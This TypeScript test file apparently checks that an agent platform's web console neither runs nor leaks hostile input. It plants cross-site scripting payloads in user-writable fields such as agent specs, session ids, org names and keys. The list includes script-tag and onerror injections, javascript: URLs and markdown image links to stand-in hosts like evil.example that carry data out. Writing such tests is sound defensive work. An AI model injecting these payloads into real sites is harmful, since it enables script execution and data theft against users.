import { afterAll, beforeAll, describe, expect } from "bun:test";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { Browser, Page } from "playwright-core";
import { pages } from "../../src/console/areas.ts";
import { daemonClient } from "../../src/contracts/daemon/client.ts";
import { platformClient } from "../../src/contracts/platform/clients/client.ts";
import { browserMissing, openBrowser, type Visit, visit } from "../support/browser.ts";
import { ownersCloud, translatorOf } from "../support/cloud-world.ts";
import { goTo, settled } from "../support/console-page.ts";
import { addressesOf } from "../support/console-pages.ts";
import { type ConsoleWorld, operatorToken, startConsoleWorld } from "../support/console-world.ts";
import { executableBuilt, executableTest } from "../support/executable.ts";

/** Scripts that reveal their execution by a dialog, an error, or a mark on the window. */
const scripts = [
  "</script><script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "[a link](javascript:alert(1))",
  "![a picture](https://collector.example/leak?it)",
  "![x](https://evil.example/?d=SECRET)",
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "{{constructor.constructor('alert(1)')()}}",
  '"><style>*{display:none}</style>',
  "'-alert(1)-'",
];

interface HostileString {
  input: string;
  expected: string;
}

const corpus = join(import.meta.dir, "../corpora/strings_hostile.json");

/** The strings of the corpus that a text may contain. */
const strings = (JSON.parse(readFileSync(corpus, "utf8")).entries as HostileString[])
  .map(({ input }) => input)
  .filter(
    (input) => input.trim() !== "" && !input.includes("\0") && input.isWellFormed() && input.length < 2000,
  );

const hostile = [...new Set([...scripts, ...strings])];

describe("what comes from elsewhere runs nowhere", () => {
  let world: ConsoleWorld;
  let browser: Browser;
  let window: Visit;
  const asked: string[] = [];
  beforeAll(async () => {
    if (browserMissing !== undefined || !executableBuilt) return;
    world = await startConsoleWorld();
    await plant(world);
    browser = await openBrowser();
    window = await visit(browser, await world.link());
    window.page.on("request", (request) => asked.push(request.url()));
    await settled(window.page);
  });
  afterAll(async () => {
    await browser?.close();
    await world?.[Symbol.asyncDispose]();
  });

  for (const { path } of pages) {
    executableTest(
      `${path}: neither shown nor typed`,
      async () => {
        const { page, complaints } = window;
        const address = addressesOf(world.names).find((known) => known.page === path)?.address ?? "";
        await goTo(page, address);
        expect(await page.getByRole("heading", { name: "This page has crashed" }).count()).toBe(0);
        await typeEverywhere(page);
        const own = new URL(page.url()).host;
        expect(asked.filter((url) => !url.startsWith("data:") && new URL(url).host !== own)).toEqual([]);
        // A browser's message about a refused request is not a complaint.
        expect(complaints.filter((text) => !text.startsWith("Failed to load resource"))).toEqual([]);
      },
      browserMissing,
    );
  }
});

/** Types into all fields; a number field takes the part that it can. */
async function typeEverywhere(page: Page): Promise<void> {
  for (const field of await page.locator("main").getByRole("textbox").all()) {
    if (!(await field.isVisible()) || !(await field.isEditable())) continue;
    await field.focus();
    for (const text of scripts.slice(0, 3)) await page.keyboard.insertText(text);
    await page.keyboard.press("Tab");
  }
}

/** Stores the texts wherever a user may write; refused texts cannot reach a page. */
async function plant({ server, names, link }: ConsoleWorld): Promise<void> {
  const fetchNow = (request: Request) => fetch(request);
  const daemon = daemonClient({ fetch: fetchNow, baseUrl: server.url });
  const all = hostile.join("\n\n");
  await daemon.run("support", { query: all, session_id: names.session, record: true });
  for (const [at, text] of hostile.entries()) {
    await daemon
      .run("support", { query: text, session_id: sessionOf(text) ?? `s-${at}` })
      .catch(() => undefined);
  }
  await daemon.createAgent(
    JSON.stringify({
      apiVersion: "platform/v1",
      kind: "Agent",
      metadata: { name: "hostile" },
      spec: {
        identity: { description: all },
        model: { primary: { provider: "rehearsal", model: "<img src=x onerror=alert(1)>" } },
        prompts: { system: "Hello" },
      },
    }),
  );
  await daemon.ragIngest({
    collection: "handbook",
    pipeline: "handbook",
    documents: [{ id: "<img src=x onerror=alert(1)>", text: all, metadata: { title: all.slice(0, 500) } }],
  });

  const { org } = names;
  const cloud = await ownersCloud(server, await link());
  await cloud.createAgent(org, {
    name: "hostile",
    display_name: scripts[1] ?? "",
    step1: { model: "openai/<img/src=x/onerror=alert(1)>" },
    step2: { system_prompt: scripts[0] ?? "", persona: scripts[2] ?? "" },
  });
  await cloud.createKey(org, scripts[0] ?? "");
  await cloud.renameOrg(org, scripts[1] ?? "");
  for (const query of scripts) await cloud.run(org, names.cloudAgent, { query });
  await translatorOf(server).submit(
    JSON.stringify({
      apiVersion: "platform/v1",
      kind: "Agent",
      metadata: { name: names.spec },
      spec: {
        identity: { description: scripts.join(" ") },
        model: { primary: { provider: "openai", model: scripts[1] } },
        prompts: { system: scripts[2] },
      },
    }),
  );

  const platform = { fetch: fetchNow, baseUrl: server.urlOf("platform") };
  const { accessToken } = await platformClient(platform).login({
    email: "ada@example.com",
    password: "correct horse",
  });
  const ada = platformClient({ ...platform, accessToken, tenantId: names.tenant });
  await ada.renameTenant(names.tenant, "<img src=x onerror=alert(1)>");
  await ada.createKey(names.tenant, "</script><script>alert(1)</script>");
  await ada.run("helper", { query: all, session_id: "<svg onload=alert(1)>" });
  const operator = platformClient({ ...platform, operatorToken });
  await operator.fileTariff({
    provider: "<svg onload=alert(1)>",
    model: "<img src=x onerror=alert(1)>",
    credits_per_1k_in_micros: 1,
    credits_per_1k_out_micros: 1,
  });
}

const sessionOf = (text: string): string | undefined =>
  /^[\x20-\x7e]{1,200}$/.test(text) ? text : undefined;
